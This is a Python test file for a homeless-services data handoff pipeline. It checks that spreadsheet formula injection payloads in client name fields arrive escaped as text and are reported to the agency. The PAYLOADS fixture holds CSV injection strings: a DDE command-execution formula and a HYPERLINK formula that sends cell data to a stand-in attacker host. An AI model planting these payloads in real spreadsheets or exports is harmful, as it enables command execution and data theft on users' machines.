"""Formula cells (OWASP CSV injection) reach the partner as text, and the agency is told."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from hmis_handoff.crypto.age import decrypt_file
from hmis_handoff.ledger import FileState
from schemas.formula import neutralise
from tests.packages import intake_text
from tests.pipeline.test_pipeline import drop_rows, make_pipeline, partner_key, rows, run_all
from tests.security.helpers import report_rows
from usecases.initialise import initialise

PAYLOADS = {
    "FirstName": "=cmd|' /C calc'!A0",
    "LastName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "CollectedByUser": '=HYPERLINK("http://attacker.invalid/?x="&A1,"open")',
    "MiddleName": "-Smith",
    "NameSuffix": "+1",
}


@pytest.fixture()
def root(tmp_path: Path) -> Path:
    data = tmp_path / "data"
    initialise(data, demo=True)
    return data


def test_formula_cells_are_sent_as_text_with_a_warning(root: Path, tmp_path: Path) -> None:
    """Every formula-like cell arrives prefixed with one apostrophe; other cells unchanged."""
    pipe = make_pipeline(root)
    data = rows(2, "FRM")
    data[0].update(PAYLOADS)
    data[1]["FirstName"] = "\tTabbed"
    drop_rows(root, data)
    (outcome,), _ = run_all(pipe)
    assert outcome.state == FileState.DELIVERED
    assert outcome.rows_sent == 2
    package = root / "partners" / "demo-partner" / "outbox" / f"{outcome.package_id}.age"
    plain = tmp_path / "plain.csv"
    decrypt_file(package, plain, partner_key(root))  # type: ignore[arg-type]
    sent = list(csv.DictReader(io.StringIO(intake_text(plain))))
    for column, value in PAYLOADS.items():
        assert sent[0][column] == "'" + value
    assert sent[1]["FirstName"] == "'\tTabbed"
    assert sent[1]["LastName"] == data[1]["LastName"]  # untouched
    for record in sent:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    warnings = {
        (r["row"], r["column"]) for r in report_rows(root) if r["rule_id"] == "CELL-FORMULA"
    }
    assert warnings == {("2", c) for c in PAYLOADS} | {("3", "FirstName")}
    report_text = "".join(p.read_text() for p in (root / "agencies/demo-agency/reports").iterdir())
    assert "cmd|" not in report_text and "HYPERLINK" not in report_text


def test_neutralise_leaves_plain_values_alone() -> None:
    values = pd.Series(["Smith", "", "O'Neil", "=1+1", "Anne-Marie", "@x"], dtype=object)
    assert neutralise(values).tolist() == ["Smith", "", "O'Neil", "'=1+1", "Anne-Marie", "'@x"]
